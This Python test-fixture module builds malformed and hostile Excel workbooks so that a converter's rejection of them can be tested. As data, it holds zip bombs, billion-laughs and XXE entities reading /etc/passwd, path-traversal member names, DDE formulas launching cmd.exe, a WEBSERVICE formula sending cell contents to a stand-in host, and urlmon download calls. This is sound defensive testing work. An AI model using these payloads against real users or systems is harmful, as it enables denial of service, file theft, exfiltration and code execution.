"""Workbooks that mean harm, or that came to harm: made from a good one, each by what was done.

Each maker gives the bytes of a file. What a fuzzer found is here, too, as the edit that it boiled
down to. Knows the file format alone, never xlconv.
"""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from support import dialects
from support.dialects import Unseekable

BOARD = "xl/worksheets/sheet2.xml"
WORKBOOK = "xl/workbook.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
TYPES = "[Content_Types].xml"
STRINGS = "xl/sharedStrings.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MEGABYTE = 1 << 20

Maker = Callable[[bytes], bytes]


def members(book: bytes) -> dict[str, bytes]:
    """The parts of a workbook."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def text_members(book: bytes) -> dialects.Parts:
    return {name: content.decode() for name, content in members(book).items()}


def packed(parts: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Parts as a zip archive."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def with_part(name: str, content: bytes | str) -> Maker:
    """With a part that was not there, or another one in its place."""
    data = content.encode() if isinstance(content, str) else content
    return lambda book: packed({**members(book), name: data})


def without_part(name: str) -> Maker:
    return lambda book: packed({k: v for k, v in members(book).items() if k != name})


def replaced(part: str, old: str, new: str) -> Maker:
    """With the first `old` in a part as `new`."""

    def make(book: bytes) -> bytes:
        parts = members(book)
        assert old.encode() in parts[part], f"{old!r} is not in {part}"
        return packed({**parts, part: parts[part].replace(old.encode(), new.encode(), 1)})

    return make


def changed(part: str, pattern: str, new: str) -> Maker:
    """With the first match of a pattern as `new`."""

    def make(book: bytes) -> bytes:
        parts = members(book)
        text, count = re.subn(pattern, lambda _: new, parts[part].decode(), count=1, flags=re.S)
        assert count, f"{pattern!r} is not in {part}"
        return packed({**parts, part: text.encode()})

    return make


def sized(part: str, size: int) -> Maker:
    """With a part of which the directory says another size."""

    def make(book: bytes) -> bytes:
        data, at = bytearray(book), 0
        while data[at + 46 : at + 46 + len(part)] != part.encode():
            at = data.index(b"PK\1\2", at + 1)
        struct.pack_into("<I", data, at + 24, size)
        return bytes(data)

    return make


def written_as_it_goes(book: bytes) -> bytes:
    """As programs write that do not know the sizes before: with those of 64 bits behind."""
    target = io.BytesIO()
    with zipfile.ZipFile(Unseekable(target), "w", zipfile.ZIP_DEFLATED) as archive:  # type: ignore[call-overload]
        for name, content in members(book).items():
            with archive.open(name, "w", force_zip64=True) as part:
                part.write(content)
    return target.getvalue()


def renamed_beside(book: bytes) -> bytes:
    """With another name for the board, in a field that some programs go by."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members(book).items():
            entry = zipfile.ZipInfo(name)
            if name == BOARD:
                other = b"\1" + struct.pack("<I", zlib.crc32(name.encode())) + b"xl/other.xml"
                entry.extra = struct.pack("<HH", 0x7075, len(other)) + other
            archive.writestr(entry, content, zipfile.ZIP_DEFLATED)
    return target.getvalue()


def listed_as_each_other(one: str, other: str) -> Maker:
    """With two parts that the list of contents takes for each other."""

    def make(book: bytes) -> bytes:
        parts = members(book)
        text = parts[TYPES].decode()
        for old, new in ((one, "*"), (other, one), ("*", other)):
            text = text.replace(f'"/xl/{old}"', f'"/xl/{new}"')
        return packed({**parts, TYPES: text.encode()})

    return make


def added_rows(xml: str, part: str = BOARD) -> Maker:
    """With rows behind the last one of a sheet."""
    return replaced(part, "</sheetData>", f"{xml}</sheetData>")


def added_cells(xml: str) -> Maker:
    """With a row of cells far below a sheet's last one."""
    return added_rows(f'<row r="3000">{xml}</row>')


def added_element(xml: str, part: str = BOARD) -> Maker:
    """With an element behind a sheet's cells."""
    return replaced(part, "</sheetData>", f"</sheetData>{xml}")


def in_workbook(element: str, xml: str) -> Maker:
    """With more at the end of one of the workbook's elements."""
    return replaced(WORKBOOK, f"</{element}>", f"{xml}</{element}>")


def added_name(text: str, attributes: str = "") -> Maker:
    """With a defined name of a text."""
    return in_workbook("definedNames", f'<definedName name="mine"{attributes}>{text}</definedName>')


def formula_of(text: str) -> Maker:
    """With a formula of one's own below the board."""
    return added_cells(f'<c r="B3000"><f>{text}</f><v>1</v></c>')


def added_sheet(xml: str) -> Maker:
    """With a sheet of somebody's own."""

    def make(book: bytes) -> bytes:
        book = with_part("xl/worksheets/sheet99.xml", xml)(book)
        sheet = f'<sheet xmlns:r="{OFFICE}" name="Mine" sheetId="99" r:id="rId99"/></sheets>'
        book = replaced(WORKBOOK, "</sheets>", sheet)(book)
        target = f'<Relationship Type="{OFFICE}/worksheet" Target="worksheets/sheet99.xml"'
        end = "</Relationships>"
        return replaced(RELATIONS, end, f'{target} Id="rId99"/>{end}')(book)

    return make


def related(kind: str, target: str, external: bool = False, to: str = RELATIONS) -> Maker:
    """With a relationship of a kind to a target."""
    mode = ' TargetMode="External"' if external else ""
    one = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'

    def make(book: bytes) -> bytes:
        parts = members(book)
        default = f'<Relationships xmlns="{PACKAGE}"></Relationships>'.encode()
        old = parts.get(to, default)
        return packed(
            {**parts, to: old.replace(b"</Relationships>", f"{one}</Relationships>".encode())}
        )

    return make


def sheet_of(rows: str) -> str:
    return f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'


def many_rows(count: int, first: int = 1) -> str:
    return "".join(
        f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(first, first + count)
    )


def doctype(declarations: str, part: str = BOARD) -> Maker:
    """With a document type in front of a part."""

    def make(book: bytes) -> bytes:
        parts = members(book)
        xml = re.sub(rb"^\s*<\?xml.*?\?>", b"", parts[part])
        return packed({**parts, part: f"<!DOCTYPE x [{declarations}]>".encode() + xml})

    return make


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12))


def overlapping(book: bytes) -> bytes:
    """Many names for one and the same compressed piece, as in Fifield's bomb."""
    data = bytearray(packed({**members(book), "bomb": bytes(20 * MEGABYTE)}))
    at = data.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack_from("<HII", data, at + 10)
    directory = bytes(data[start : start + size])
    entry = directory[directory.rfind(b"PK\x01\x02") :]
    copies = b"".join(entry.replace(b"bomb", f"b{n:03}".encode()) for n in range(200))
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, count + 200, count + 200, size + len(copies), start, 0
    )
    return bytes(data[:start]) + directory + copies + end


def lying(book: bytes) -> bytes:
    """A part that unpacks to far more than the directory says."""
    data = bytearray(packed({**members(book), BOARD: b" " * (64 * MEGABYTE)}))
    at = data.rfind(BOARD.encode()) - 46
    struct.pack_into("<I", data, at + 24, 1000)
    return bytes(data)


def twice(book: bytes) -> bytes:
    """A part that is there two times."""
    data = packed({**members(book), "xl/worksheets/sheetX.xml": b"<x/>"})
    return data.replace(b"xl/worksheets/sheetX.xml", BOARD.encode())


def crowd(book: bytes, digits: int = 1) -> bytes:
    return packed({**members(book), **{f"x/{n:0{digits}}": b"" for n in range(20_000)}})


def ended_by_zip64(book: bytes) -> bytes:
    """With zip64's end record, which alone says how many parts there are, and where."""
    at = book.rindex(b"PK\5\6")
    count, size, offset = struct.unpack_from("<HII", book, at + 10)
    end = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, offset)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, at, 1)
    old = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return book[:at] + end + locator + old


def recoded(encoding: str, part: str = BOARD) -> Maker:
    """A part in another encoding."""

    def make(book: bytes) -> bytes:
        parts = members(book)
        xml = re.sub(r"^\s*<\?xml.*?\?>", "", parts[part].decode())
        head = f'<?xml version="1.0" encoding="{encoding}"?>'
        return packed({**parts, part: (head + xml).encode(encoding)})

    return make


def ole(book: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000)


def locked(book: bytes) -> bytes:
    """A member that says it is encrypted."""
    data = bytearray(book)
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def late(make: Callable[[], Maker]) -> Maker:
    """A maker whose text is large, made when it is needed."""
    return lambda book: make()(book)


FILES: dict[str, tuple[Maker, str]] = {
    "nothing": (lambda _: b"", "not an .xlsx workbook but an empty file"),
    "half": (lambda book: book[: len(book) // 2], "cut short"),
    "only a head": (lambda book: b"PK\x03\x04", "cut short"),
    "noise": (lambda _: bytes(range(256)) * 40, "not an .xlsx workbook but data"),
    "zip noise": (lambda _: b"PK\x03\x04" + bytes(range(256)) * 40, "cut short"),
    "csv": (lambda _: b"a;b;c\r\n1;2;3\r\n", "plain text"),
    "utf-16 text": (lambda _: "a\tb\n".encode("utf-16"), "plain text"),
    "a word": (lambda _: b"hello", "not an .xlsx workbook"),
    "an empty zip": (lambda _: b"PK\x05\x06" + bytes(18), "not a workbook"),
    "html": (lambda _: b"\n<HTML><table><tr><td>1</td></tr></table></HTML>", "an HTML page"),
    "xml": (lambda _: b"<?xml version='1.0'?><Workbook/>", "an XML file"),
    "pdf": (lambda _: b"%PDF-1.4\n%\xe2\xe3", "a PDF"),
    "xls": (ole, "old .xls format"),
    "encrypted": (locked, "encrypted"),
    "ods": (
        lambda _: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
        "an OpenDocument file",
    ),
    "xlsb": (lambda _: packed({TYPES: b"<Types/>", "xl/workbook.bin": b"x"}), ".xlsb"),
    "docx": (lambda _: packed({TYPES: b"<Types/>", "word/document.xml": b"<x/>"}), "document"),
    "xlsm": (with_part("xl/vbaProject.bin", b"\xd0\xcf"), "macros"),
    "xlsm by type": (replaced(TYPES, "sheet.main+xml", "sheet.macroEnabled.main+xml"), "macros"),
    "jar": (lambda _: packed({"META-INF/MANIFEST.MF": b""}), "another kind of zip archive"),
    "bzip2": (lambda book: packed(members(book), zipfile.ZIP_BZIP2), "packed in a way"),
    "lzma": (lambda book: packed(members(book), zipfile.ZIP_LZMA), "packed in a way"),
    "overlapping": (overlapping, "overlap"),
    "lying": (lying, "damaged"),
    "twice": (twice, "twice"),
    "twice but for the case": (with_part("XL/Workbook.xml", b"<x/>"), "holds the part .* twice"),
    "crowd": (crowd, "members"),
    "crowd of zip64": (lambda book: ended_by_zip64(crowd(book, 100)), "far more members"),
    "bomb": (late(lambda: with_part(BOARD, bytes(400 * MEGABYTE))), "unpacks|damaged"),
    "bomb of blanks": (late(lambda: with_part(BOARD, b" " * (400 * MEGABYTE))), "unpacks|damaged"),
    "bomb beside": (
        late(lambda: with_part("xl/bomb.xml", b"<a>" + b" " * (400 * MEGABYTE))),
        "unpacks",
    ),
    "bomb of strings": (
        late(lambda: with_part(STRINGS, f'<sst xmlns="{MAIN}">' + "<si><t>a</t></si>" * 4_000_000)),
        "shared texts|unpacks",
    ),
    "path": (with_part("../../../tmp/x", b""), "no workbook has"),
    "absolute path": (with_part("/etc/x", b""), "no workbook has"),
    "drive": (with_part("C:\\x", b""), "no workbook has"),
    "no types": (without_part(TYPES), "another kind of zip archive"),
    "no workbook": (without_part(WORKBOOK), "missing"),
    "no board": (without_part(BOARD), "missing"),
    "no strings": (without_part(STRINGS), "missing"),
    "utf-7": (recoded("utf-7"), "encoding|damaged"),
    "a sheet listed as the workbook": (
        listed_as_each_other("workbook.xml", "worksheets/sheet2.xml"),
        "which it is not",
    ),
    "texts listed as a sheet": (
        listed_as_each_other("sharedStrings.xml", "worksheets/sheet2.xml"),
        "which it is not",
    ),
    "listed twice": (
        replaced(
            TYPES, "</Types>", '<Override PartName="/xl/Workbook.xml" ContentType="a/b"/></Types>'
        ),
        "twice",
    ),
    "bomb that nobody looks at": (
        late(lambda: with_part("xl/media/image1.png", bytes(400 * MEGABYTE))),
        "pictures or other data of 400 MB",
    ),
    "a part shorter than it says": (sized(BOARD, 1 << 20), "cut short"),
    "many small elements": (
        late(lambda: changed("xl/styles.xml", "</cellXfs>", "<xf/>" * 250_000 + "</cellXfs>")),
        "more than 200,000 elements",
    ),
    "no encoding": (
        replaced(BOARD, "<worksheet", '<?xml version="1.0" encoding="x"?><worksheet'),
        "unknown encoding",
    ),
}

MERGED = '<mergeCell ref="A1:B2"/>'
NAME = '<definedName name="n{}">Board!$A$1</definedName>'
XML: dict[str, tuple[Maker, str]] = {
    "laughs": (doctype(LAUGHS), "entities"),
    "laughs in strings": (doctype(LAUGHS, STRINGS), "entities"),
    "laughs in the workbook": (doctype(LAUGHS, WORKBOOK), "entities"),
    "laughs in relations": (doctype(LAUGHS, RELATIONS), "entities"),
    "laughs in styles": (doctype(LAUGHS, "xl/styles.xml"), "entities"),
    "quadratic": (doctype(f'<!ENTITY a "{"a" * 100_000}">'), "entities"),
    "external entity": (doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'), "entities"),
    "external parameter": (doctype('<!ENTITY % x SYSTEM "http://0.0.0.0/"> %x;'), "entities"),
    "deep": (late(lambda: added_element("<a>" * 500_000 + "</a>" * 500_000)), "nested"),
    "deep in the workbook": (
        late(lambda: replaced(WORKBOOK, "</sheets>", "</sheets>" + "<a>" * 10**5 + "</a>" * 10**5)),
        "nested",
    ),
    "long attribute": (late(lambda: added_element(f'<x a="{"a" * (8 * MEGABYTE)}"/>')), "a tag"),
    "long comment": (
        late(lambda: added_element(f"<!--{'a' * (8 * MEGABYTE)}-->")),
        "a tag or a comment",
    ),
    "many attributes": (
        late(lambda: added_element("<x " + " ".join(map('a{}="1"'.format, range(300_000))) + "/>")),
        "a tag",
    ),
    "merges": (
        late(lambda: added_element(f"<mergeCells>{MERGED * 3_000_000}</mergeCells>")),
        "elements|unpacks",
    ),
    "names": (
        late(lambda: in_workbook("definedNames", "".join(map(NAME.format, range(700_000))))),
        "elements|unpacks",
    ),
}

LONG_TEXT = f"<t>{'a' * MEGABYTE}</t>"
CELLS: dict[str, tuple[Maker, str]] = {
    "a million rows": (late(lambda: added_rows(many_rows(1_000_000, 3000))), "elements|unpacks"),
    "a million foreign rows": (
        late(lambda: added_sheet(sheet_of(many_rows(1_048_576)))),
        "cells|elements|unpacks",
    ),
    "a million empty rows": (
        late(lambda: added_sheet(sheet_of("<row/>" * 1_048_576))),
        "elements|unpacks",
    ),
    "row beyond": (added_rows('<row r="1048577"><c r="A1048577"><v>1</v></c></row>'), "limits"),
    "column beyond": (added_cells('<c r="XFE3000"><v>1</v></c>'), "limits"),
    "far beyond": (added_cells('<c r="ZZZ3000"><v>1</v></c>'), "limits"),
    "row 0": (added_rows('<row r="0"><c r="A0"><v>1</v></c></row>'), "row|cell"),
    "negative row": (added_rows('<row r="-7"/>'), "no number"),
    "absurd row": (added_rows(f'<row r="{"9" * 5000}"/>'), "no number"),
    "cell in another row": (added_cells('<c r="A1"><v>1</v></c>'), "order"),
    "cell twice": (added_cells('<c r="A3000"><v>1</v></c><c r="A3000"><v>2</v></c>'), "twice"),
    "row twice": (added_rows('<row r="3"><c r="A3"><v>1</v></c></row>'), "order"),
    "two formulas": (added_cells('<c r="A3000"><f>1</f><f>2</f><v>1</v></c>'), "two formulas"),
    "two values": (added_cells('<c r="A3000"><v>1</v><v>2</v></c>'), "two"),
    "cell outside of rows": (added_element('<c r="A9000"><v>1</v></c>'), "cell"),
    "nested cells": (added_cells('<c r="A3000"><c r="B3000"><v>1</v></c></c>'), "cell"),
    **{
        f"value {text[:9]}": (
            changed(BOARD, "<v>[^<]*</v>", f"<v>{text}</v>"),
            "no number|no text|text",
        )
        for text in ("nan", "inf", "-inf", "1e999", "1_0", "0x10", "١", "9" * 5000, "1,5")
    },
    "bad text number": (changed(BOARD, 't="s"><v>[^<]*', 't="s"><v>99999'), "text"),
    "negative text number": (changed(BOARD, 't="s"><v>[^<]*', 't="s"><v>-1'), "text"),
    "long text": (
        late(lambda: added_cells(f'<c r="A3000" t="inlineStr"><is>{LONG_TEXT}</is></c>')),
        "characters",
    ),
    "long formula": (late(lambda: formula_of("1+" * MEGABYTE + "1")), "characters"),
}

# Formulas of somebody's own that do no harm, and on which a careless pattern spends minutes.
LONG_FORMULAS = {
    "quotes": '"' * 16_001,
    "apostrophes": "'" * 16_001,
    "brackets": "[" * 16_000,
    "brackets both ways": "[]" * 8_000,
    "digits": "1" * 16_000 + "x",
    "a word": "a" * 16_000,
    "dots": "a." * 8_000,
    "references": "A1:" * 5_000 + "(",
    "blanks": "SUM" + " " * 16_000 + "x",
    "functions": "SUM(" * 4_000,
    "exponents": "1E5" * 5_000,
    "absolute": "$" * 16_000,
}

SCRIPTS = (
    *("javascript:alert(1)", "file:///etc/passwd", "cmd.exe", "..\\x.bat", "vbscript:x"),
    "\\\\a\\b",
)
FORMULAS = {
    "another book": "[1]Sheet1!A1",
    "another book by name": "[Book1.xlsx]Sheet1!$A$1",
    "another book in quotes": "'C:\\x\\[b.xlsx]S'!A1",
    "a name of another book": "[1]!rate",
    "a file": "'file:///etc/passwd'#$Sheet1.A1",
    "a page": "'http://example.org/b.xlsx'#$S.A1",
    "a program": "cmd|'/c calc'!A1",
    "a program in quotes": "'cmd'|'/c calc'!A1",
    "a program, otherwise": "DDE(&quot;soffice&quot;,&quot;x&quot;,&quot;y&quot;)",
    "a service": "_xlfn.WEBSERVICE(&quot;http://example.org/&quot;&amp;A1)",
    "a service, small": "webservice (&quot;http://example.org/&quot;)",
    "a service, LibreOffice's": "COM.MICROSOFT.WEBSERVICE(&quot;http://example.org/&quot;)",
    "a server": "RTD(&quot;x&quot;,,&quot;y&quot;)",
    "a library": "CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;JJ&quot;)",
    "another library": "REGISTER.ID(&quot;a&quot;,&quot;b&quot;)",
    "anywhere": "SUM(INDIRECT(&quot;[b.xlsx]S!A&quot;&amp;1))",
    "a picture": "_xlfn.IMAGE(&quot;http://example.org/x.png&quot;)",
    "an add-in": "_xll.MyFunction(1)",
    "a macro's function": "EXEC(&quot;calc&quot;)",
    "a function as a value": "_xlfn.MAP(A1,_xleta.WEBSERVICE)",
    "a script": "HYPERLINK(&quot;javascript:alert(1)&quot;)",
    "a computed link": "HYPERLINK(&quot;fi&quot;&amp;A1)",
    "python": "_xlfn._xlws.PY(0,1)",
}

OUTSIDE: dict[str, tuple[Maker, str]] = {
    **{f"formula: {what}": (formula_of(text), "B3000") for what, text in FORMULAS.items()},
    **{f"name: {what}": (added_name(text), "'mine'") for what, text in FORMULAS.items()},
    "foreign formula": (
        added_sheet(sheet_of('<row r="1"><c r="A1"><f>[1]S!A1</f></c></row>')),
        "Mine!A1",
    ),
    "shared formula": (added_cells('<c r="A3000"><f t="shared" si="99">[1]S!A1</f></c>'), "A3000"),
    "rule": (
        added_element(
            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
            "<formula>[1]S!A1</formula></cfRule></conditionalFormatting>"
        ),
        "another workbook",
    ),
    "scale": (added_element('<cfvo type="formula" val="[1]S!A1"/>'), "another workbook"),
    "validation": (
        added_element(
            '<dataValidations><dataValidation type="list" sqref="A1"><formula1>[1]S!A1</formula1>'
            "</dataValidation></dataValidations>"
        ),
        "another workbook",
    ),
    "extension": (
        added_element('<extLst xmlns:m="urn:x"><ext><m:f>[1]S!A1</m:f></ext></extLst>'),
        "another workbook",
    ),
    "chart": (replaced("xl/charts/chart1.xml", "<f>", "<f>[1]S!A1+"), "another workbook"),
    "text of a shape": (
        with_part("xl/drawings/drawing7.xml", '<sp textlink="[1]S!A1"/>'),
        "another workbook",
    ),
    "macro of a shape": (with_part("xl/drawings/drawing7.xml", '<sp macro="[0]!run"/>'), "a macro"),
    "macro of a name": (added_name("A1", ' xlm="1" function="1"'), "a macro"),
    "objects": (added_element('<oleObjects><oleObject progId="x"/></oleObjects>'), "OLE"),
    "controls": (added_element("<controls/>"), "ActiveX"),
    **{f"link: {target}": (related("hyperlink", target, True), "a link to") for target in SCRIPTS},
    "link in a cell": (
        added_element('<hyperlinks><hyperlink ref="A1" location="[1]S!A1"/></hyperlinks>'),
        "A1",
    ),
    **{
        f"related: {kind}": (related(kind, "x.xml"), ".")
        for kind in (
            *("externalLink", "vbaProject", "xlMacrosheet", "oleObject", "package", "control"),
            *("connections", "queryTable", "volatileDependencies", "attachedToolbars"),
        )
    },
    "linked picture": (related("image", "http://example.org/x.png", True), "image"),
    "linked object": (related("oleObject", "file:///x", True), "OLE"),
    "external book": (
        with_part("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
        "workbook",
    ),
    "connections": (with_part("xl/connections.xml", "<connections/>"), "connection"),
    "embedded": (with_part("xl/embeddings/oleObject1.bin", b"x"), "OLE"),
    "add-in": (with_part("xl/webextensions/taskpanes.xml", "<x/>"), "add-in"),
    "ribbon": (with_part("customUI/customUI.xml", "<x/>"), "ribbon"),
}

# Edits of the network's text, as a shared string spells it, and what the refusal says.
CLAIMS: dict[str, tuple[Maker, str]] = {
    name: (replaced(STRINGS, old, new), words)
    for name, (old, new, words) in {
        "10^9 pixels": ("input = [1, 6, 6]", "input = [1, 1000000000, 1]", "1,000,000,000"),
        "10^12 pixels": ("input = [1, 6, 6]", "input = [1, 1000000, 1000000]", "cells"),
        "10^9 kernels": ("kernels = 1<", "kernels = 1000000000<", "26,000,000,000 cells"),
        "10^5 kernels": ("kernels = 1<", "kernels = 100000<", "maps and kernels"),
        "10^6 units": ("units = 2", "units = 1000000", "maps and kernels"),
        "wide padding": ('padding = "valid"', "padding = 1000000", "cells"),
        "10^4 layers": ("bias = true", "bias = true" + "\n[[layers]]" * 10_000, "layers"),
        "deep lists": ("bias = true", f"x = {'[' * 30_000}", "nested too deeply"),
        "deep keys": ("bias = true", f"{'a.' * 16_000}a = 1", "nested too deeply"),
        "many digits": ("units = 2", f"units = {'9' * 20_000}", "digits"),
        "many hexadecimal digits": ("units = 2", f"units = 0x{'f' * 20_000}", "bits"),
        "a long name": ('name = "conv"', f'name = "{"c" * 5000}"', "5,000 characters"),
        "a text for a number": ("units = 2", 'units = "2"', "units is '2'"),
        "a list for a number": ("units = 2", "units = [2]", "units is"),
        "a table for a number": ("units = 2", "units = { a = 1 }", "units is"),
        "a date for a number": ("units = 2", "units = 1979-05-27", "units is"),
        "no number": ("units = 2", "units = nan", "units is nan"),
        "a number for a name": ('name = "conv"', "name = 5", "layer name 5"),
        "a number for inputs": ('inputs = ["conv"]', "inputs = 5", "inputs is 5"),
        "lists for inputs": ('inputs = ["conv"]', 'inputs = [["conv"]]', "inputs is"),
        "a number for labels": ('labels = ["a", "b"]', "labels = 5", "labels is 5"),
        "pictures that are not there": ('palette = "lesson"', "pictures = 1000", "Images"),
        "sizes of nothing": ("sheets = {", "sheets = 5 # {", "sheets is not"),
        "another size": ("sheets = {", "sheets = { Model = [9, 9] } # {", "size of the sheet"),
        "another version": ('xlconv = "0', 'xlconv = "7\nsheets = {}\nx = "', "7|TOML"),
    }.items()
}

# What Excel and others write into a book that is none of xlconv's business, and does no harm.
_MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
_X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
HARMLESS: dict[str, Maker] = {
    "calcChain": lambda book: related("calcChain", "calcChain.xml")(
        with_part("xl/calcChain.xml", f'<calcChain xmlns="{MAIN}"><c r="A1" i="1"/></calcChain>')(
            book
        )
    ),
    "printer settings": with_part("xl/printerSettings/printerSettings1.bin", b"\0\1\2" * 99),
    "threaded comments": with_part(
        "xl/threadedComments/threadedComment1.xml",
        '<ThreadedComments xmlns="urn:x"><threadedComment ref="A1"><text>=[1]S!A1</text>'
        "</threadedComment></ThreadedComments>",
    ),
    "persons": lambda book: related("person", "persons/person.xml")(
        with_part("xl/persons/person.xml", '<personList xmlns="urn:x"/>')(book)
    ),
    "custom XML": with_part("customXml/item1.xml", "<f>[1]S!A1</f>"),
    "the folder where it was": replaced(
        WORKBOOK,
        "<bookViews>",
        f'<mc:AlternateContent xmlns:mc="{_MC}"><mc:Choice Requires="x15"><x15ac:absPath '
        'xmlns:x15ac="urn:y" url="C:\\Users\\ada\\"/></mc:Choice></mc:AlternateContent><bookViews>',
    ),
    "sparklines": added_element(
        f'<extLst><ext xmlns:x14="{_X14}"><x14:sparkline xmlns:xm="urn:z"><xm:f>Board!A1:B2</xm:f>'
        "<xm:sqref>C3</xm:sqref></x14:sparkline></ext></extLst>"
    ),
    "links to the web": related("hyperlink", "https://example.org/?a=b", True),
    "a link to a person": related("hyperlink", "mailto:ada@example.org", True),
    "a link in the book": related("hyperlink", "#Board!A1", True),
    "a name of a constant": added_name('"file:///x|y!z"'),
    "a formula of strings": formula_of('"[1]S!A1|x WEBSERVICE("&amp;"\'http://x\'!"'),
    "a table's columns": formula_of("SUM(Table1[a|b],Table1[[#All],[c]:[d/e]],[@x])"),
    "a sheet in quotes": formula_of("'My ''own'' sheet'!A1+'Ada (2)'!B$2"),
    "its own name": formula_of("[0]!mine"),
    "a link of a function": formula_of("HYPERLINK(&quot;https://x.org&quot;,&quot;x&quot;)"),
    "a function of a like name": formula_of("CALLS(1)+IMAGES(2)+MYINDIRECT(3)+RTDX(1)"),
    "a name like a function": formula_of("call+image+Image!A1"),
    "text that reads like a formula": added_cells(
        '<c r="B3000" t="inlineStr"><is><t>=[1]S!A1</t></is></c>'
    ),
    "circular formulas": formula_of("B3000+1"),
    "a sum of everything": formula_of("SUM(A1:XFD1048576)"),
    "another sheet": added_sheet(sheet_of(many_rows(500))),
    "utf-16": recoded("utf-16"),
    "latin-1": recoded("iso-8859-1", WORKBOOK),
}


def strict_cells(book: bytes) -> bytes:
    """The book with the namespaces of Strict Open XML for cells and relations alone."""
    parts = {}
    for name, text in text_members(book).items():
        text = str(text).replace(OFFICE, f"{dialects.PURL}/officeDocument/relationships")
        parts[name] = text.replace(MAIN, f"{dialects.PURL}/spreadsheetml/main")
    return packed(parts)


HARMLESS |= {
    "strict cells": strict_cells,
    "strict": lambda book: packed(dialects.strict(text_members(book))),
    "written as it goes": written_as_it_goes,
    "ended by zip64": ended_by_zip64,
    "another name beside": renamed_beside,
    "something in front": lambda book: b"PK\3\4" + bytes(100) + book,
    "something behind": lambda book: book + b"xx",
    "utf-16 without a sign": lambda book: packed(
        {**members(book), BOARD: members(book)[BOARD].decode().encode("utf-16-be")}
    ),
}
